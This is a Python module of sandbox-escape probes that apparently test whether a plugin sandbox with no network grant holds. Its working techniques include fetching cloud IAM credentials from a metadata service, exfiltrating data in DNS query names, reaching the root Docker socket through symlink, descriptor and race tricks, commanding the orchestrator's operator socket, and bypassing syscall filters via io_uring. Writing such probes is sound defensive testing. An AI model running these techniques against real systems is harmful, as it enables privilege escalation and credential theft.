"""The network, without a grant for any of it."""

import ctypes
import os
import socket
import struct
import time

from ._probe import ORDINARY, Blocked, NotApplicable, each, probe
from ._syscall import call

HERE = "127.0.0.1"
MSG_FASTOPEN = 0x20000000


def new(family, kind=socket.SOCK_STREAM, protocol=0):
    """A socket with a time limit."""
    made = socket.socket(family, kind, protocol)
    made.settimeout(2)
    return made


def told(connection, bait, name):
    """Tell the listener who got through; it remembers."""
    connection.send((bait["mark"] + " " + name + "\n").encode())
    return "connected and sent"


@probe()
def tcp_to_host(bait):
    """Connect to a service on the host's loopback address."""
    s = new(socket.AF_INET)
    s.connect((HERE, bait["tcp_port"]))
    return told(s, bait, "tcp_to_host")


@probe()
def tcp6_to_host(bait):
    """The same over IPv6."""
    if not bait["tcp6_port"]:
        raise NotApplicable("the host has no IPv6")
    s = new(socket.AF_INET6)
    s.connect(("::1", bait["tcp6_port"]))
    return told(s, bait, "tcp6_to_host")


@probe()
def mapped_to_host(bait):
    """The same over an IPv4 address in IPv6 clothes."""
    s = new(socket.AF_INET6)
    s.connect(("::ffff:127.0.0.1", bait["tcp_port"]))
    return told(s, bait, "mapped_to_host")


@probe()
def metadata(bait):
    """Fetch the machine's credentials from its metadata service."""
    s = new(socket.AF_INET)
    s.connect((bait["metadata_host"], bait["metadata_port"]))
    s.sendall(b"GET /latest/meta-data/iam/security-credentials HTTP/1.0\r\n\r\n")
    return s.recv(1000)


@probe()
def tcp_fast_open(bait):
    """Reach a service by sendto, without connect."""
    s = new(socket.AF_INET)
    s.setblocking(True)
    s.sendto((bait["mark"] + " tcp_fast_open\n").encode(), MSG_FASTOPEN, (HERE, bait["tcp_port"]))
    return "sent"


@probe()
def tcp_fast_open_message(bait):
    """The same by sendmsg."""
    s = new(socket.AF_INET)
    s.setblocking(True)
    s.sendmsg([(bait["mark"] + " tcp_fast_open_message\n").encode()], [], MSG_FASTOPEN, (HERE, bait["tcp_port"]))
    return "sent"


@probe()
def tcp_fast_open_option(bait):
    """The same by connect with the option that defers it."""
    s = new(socket.AF_INET)
    s.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
    s.connect((HERE, bait["tcp_port"]))
    return told(s, bait, "tcp_fast_open_option")


@probe()
def multipath_tcp(bait):
    """Connect by multipath TCP."""
    s = new(socket.AF_INET, socket.SOCK_STREAM, 262)
    s.connect((HERE, bait["tcp_port"]))
    return told(s, bait, "multipath_tcp")


@probe()
def sctp(bait):
    """Connect by SCTP, DCCP or SMC."""
    kinds = {"sctp": (socket.SOCK_STREAM, 132), "dccp": (6, 33)}
    ways = {name: lambda kind=kind: new(socket.AF_INET, *kind) for name, kind in kinds.items()}
    ways["smc"] = lambda: new(43)
    ways["rds"] = lambda: new(21, socket.SOCK_SEQPACKET)
    ways["tipc"] = lambda: new(30, socket.SOCK_SEQPACKET)
    return each(ways)


@probe()
def udp_to_host(bait):
    """Send a datagram to a service of the host."""
    s = new(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto((bait["mark"] + " udp_to_host").encode(), (HERE, bait["udp_port"]))
    return "sent"


@probe()
def udp_connected(bait):
    """The same by a socket that is connected first."""
    s = new(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((HERE, bait["udp_port"]))
    return told(s, bait, "udp_connected")


@probe()
def dns(bait):
    """Carry data out in the name of a question to the resolver."""
    name = b"".join(bytes([len(p)]) + p for p in (bait["mark"].encode(), b"dns", b"example")) + b"\0"
    s = new(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1), (bait["dns_host"], bait["dns_port"]))
    return "asked"


@probe(control="there is a resolver only where the host has one")
def getaddrinfo(bait):
    """Ask the host's resolver through the C library."""
    try:
        return repr(socket.getaddrinfo("example.com", 80)[:1])
    except socket.gaierror as error:
        raise Blocked(str(error)) from error


@probe()
def listen_for_host(bait):
    """Listen on a port of the host, and be reached there."""
    s = new(socket.AF_INET)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((HERE, bait["listen_port"]))
    s.listen(1)
    return _reached(s)


@probe()
def listen_low(bait):
    """Listen on a port below 1024, in place of a service of the host."""
    s = new(socket.AF_INET)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind((HERE, bait["low_port"]))
    except OSError as error:
        if error.errno == 13 and bait["low_needs_root"]:
            raise NotApplicable("this host keeps ports below 1024 for root") from error
        raise
    s.listen(1)
    return _reached(s)


@probe()
def listen_without_bind(bait):
    """Listen on a port that the kernel chooses."""
    s = new(socket.AF_INET)
    s.listen(1)
    with open(os.path.join(os.environ["HOME"], "listening"), "w") as file:
        file.write(str(s.getsockname()[1]))
    return _reached(s)


@probe()
def squat_abstract_name(bait):
    """Take the name of a service's abstract socket, and be taken for it."""
    s = new(socket.AF_UNIX)
    s.bind("\0" + bait["squat_name"])
    s.listen(1)
    return _reached(s)


def _reached(listener):
    try:
        connection, _ = listener.accept()
    except socket.timeout:
        raise Blocked("nobody could reach it") from None
    connection.send(b"owned\n")
    return "somebody came"


@probe(control=ORDINARY)
def raw_socket(bait):
    """Make packets by hand."""
    return each(
        {
            "icmp": lambda: new(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
            "ip": lambda: new(socket.AF_INET, socket.SOCK_RAW, 255),
            "ip6": lambda: new(socket.AF_INET6, socket.SOCK_RAW, 58),
        }
    )


@probe(control="net.ipv4.ping_group_range, which is empty here")
def ping_socket(bait):
    """Send an echo request."""
    s = new(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 1), (HERE, 0))
    return "sent"


@probe(control=ORDINARY)
def packet_socket(bait):
    """Listen to every packet of the host."""
    return each({"raw": lambda: new(socket.AF_PACKET, socket.SOCK_RAW, 0x0300), "xdp": lambda: new(44, socket.SOCK_RAW)})


@probe()
def netlink(bait):
    """Ask the kernel for the host's addresses and connections."""
    s = new(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.send(struct.pack("IHHII", 24, 18, 0x301, 1, 0) + bytes(8))  # RTM_GETLINK, dump
    answer = s.recv(8192)
    return "{} bytes about the links".format(len(answer))


@probe()
def netlink_others(bait):
    """Netlink of the audit, of devices, of the firewall and of sockets."""
    families = {"audit": 9, "uevent": 15, "netfilter": 12, "sock_diag": 4, "generic": 16, "connector": 11}
    return each({name: lambda n=n: new(socket.AF_NETLINK, socket.SOCK_RAW, n) for name, n in families.items()})


@probe()
def vsock(bait):
    """Reach the hypervisor, which may hold credentials."""
    return "socket {}".format(new(40).fileno())


@probe()
def kernel_crypto(bait):
    """Reach the kernel's cryptography, which had holes before."""
    s = new(38, socket.SOCK_SEQPACKET)
    s.bind(("hash", "sha256"))
    return "bound"


@probe()
def odd_families(bait):
    """Open sockets of families that nobody uses and few have read."""
    families = {"ax25": 3, "appletalk": 5, "x25": 9, "key": 15, "can": 29, "bluetooth": 31, "phonet": 35, "kcm": 41, "qipcrtr": 42, "mctp": 45}
    return each({name: lambda n=n: new(n, socket.SOCK_DGRAM if n != 15 else socket.SOCK_RAW) for name, n in families.items()})


@probe()
def agents_health(bait):
    """Reach the agent's own health and metrics endpoints."""
    host, port = bait["health"].rsplit(":", 1)
    s = new(socket.AF_INET)
    s.connect((host, int(port)))
    s.sendall(b"GET /metrics HTTP/1.0\r\n\r\n")
    return s.recv(100)


@probe()
def orchestrator(bait):
    """Reach the orchestrator's port."""
    host, port = bait["server"].rsplit(":", 1)
    new(socket.AF_INET).connect((host, int(port)))
    return "connected"


@probe()
def unix_service(bait):
    """Connect to a service by its Unix socket."""
    s = new(socket.AF_UNIX)
    s.connect(bait["service_socket"])
    return told(s, bait, "unix_service")


@probe()
def docker_socket(bait):
    """Connect to the socket of the container engine, which is root."""
    s = new(socket.AF_UNIX)
    s.connect(bait["docker_socket"])
    return told(s, bait, "docker_socket")


@probe()
def docker_socket_by_link(bait):
    """The same through a link in the private directory."""
    link = os.path.join(os.environ["TMPDIR"], "engine")
    os.symlink(bait["docker_socket"], link)
    s = new(socket.AF_UNIX)
    s.connect(link)
    return told(s, bait, "docker_socket_by_link")


@probe()
def docker_socket_by_descriptor(bait):
    """The same by /proc/self/fd of a descriptor that was not opened for it."""
    fd = os.open(bait["docker_socket"], os.O_PATH)
    s = new(socket.AF_UNIX)
    s.connect("/proc/self/fd/{}".format(fd))
    return told(s, bait, "docker_socket_by_descriptor")


@probe()
def docker_socket_relative(bait):
    """The same by a relative name, after changing the directory."""
    os.chdir(os.path.dirname(bait["docker_socket"]))
    s = new(socket.AF_UNIX)
    s.connect(os.path.basename(bait["docker_socket"]))
    return told(s, bait, "docker_socket_relative")


@probe()
def docker_socket_bound(bait):
    """The same by a socket that has a name of its own."""
    s = new(socket.AF_UNIX)
    s.bind(os.path.join(os.environ["TMPDIR"], "own-name"))
    s.connect(bait["docker_socket"])
    return told(s, bait, "docker_socket_bound")


@probe()
def late_socket(bait):
    """Connect to a service by a Unix socket that is younger than this plugin's sandbox may be."""
    s = new(socket.AF_UNIX)
    s.connect(bait["late_socket"])
    return told(s, bait, "late_socket")


@probe()
def unix_datagram(bait):
    """Send a datagram to a Unix socket of the host (as to its log)."""
    s = new(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.sendto((bait["mark"] + " unix_datagram").encode(), bait["datagram_socket"])
    return "sent"


@probe()
def unix_datagram_message(bait):
    """The same by sendmsg, with a descriptor along."""
    s = new(socket.AF_UNIX, socket.SOCK_DGRAM)
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", 0))]
    s.sendmsg([(bait["mark"] + " unix_datagram_message").encode()], rights, 0, bait["datagram_socket"])
    return "sent"


@probe()
def unix_datagram_pair(bait):
    """The same from a pair of sockets, which exists without socket()."""
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto((bait["mark"] + " unix_datagram_pair").encode(), bait["datagram_socket"])
    return "sent"


@probe()
def unix_reconnected_pair(bait):
    """Connect one of a pair of sockets to the engine's socket."""
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.connect(bait["datagram_socket"])
    return told(one, bait, "unix_reconnected_pair")


@probe()
def abstract_service(bait):
    """Connect to a service by its abstract socket."""
    s = new(socket.AF_UNIX)
    s.connect("\0" + bait["abstract_name"])
    return told(s, bait, "abstract_service")


@probe()
def operators_socket(bait):
    """Command the orchestrator through its operators' socket."""
    s = new(socket.AF_UNIX)
    s.connect(bait["operator_socket"])
    s.sendall(b"GET /v1/agents HTTP/1.0\r\nHost: x\r\n\r\n")
    return s.recv(100)


@probe()
def race_for_socket(bait):
    """Exchange the address of an allowed socket for another while it is being checked."""
    import threading

    own, other = os.environ["STAVILY_AGENT_SOCKET"], bait["docker_socket"]
    room = ctypes.create_string_buffer(struct.pack("H", socket.AF_UNIX) + bytes(108))
    going = True

    def exchange():
        addresses = [struct.pack("H", socket.AF_UNIX) + path.encode().ljust(108, b"\0") for path in (own, other)]
        while going:
            for address in addresses:
                ctypes.memmove(room, address, len(address))

    flipper = threading.Thread(target=exchange, daemon=True)
    flipper.start()
    libc = ctypes.CDLL(None, use_errno=True)
    end = time.monotonic() + 1.5
    try:
        while time.monotonic() < end:
            s = new(socket.AF_UNIX)
            s.setblocking(True)
            if libc.connect(s.fileno(), room, 110) == 0 and s.getpeername() == other:
                return told(s, bait, "race_for_socket")
            s.close()
    finally:
        going = False
    raise Blocked("never connected to it in 1.5 s")


@probe()
def ring_connect(bait):
    """Connect by io_uring, past the filter of system calls."""
    parameters = ctypes.create_string_buffer(120)
    fd = call("io_uring_setup", 4, parameters)
    return "ring {}".format(fd)
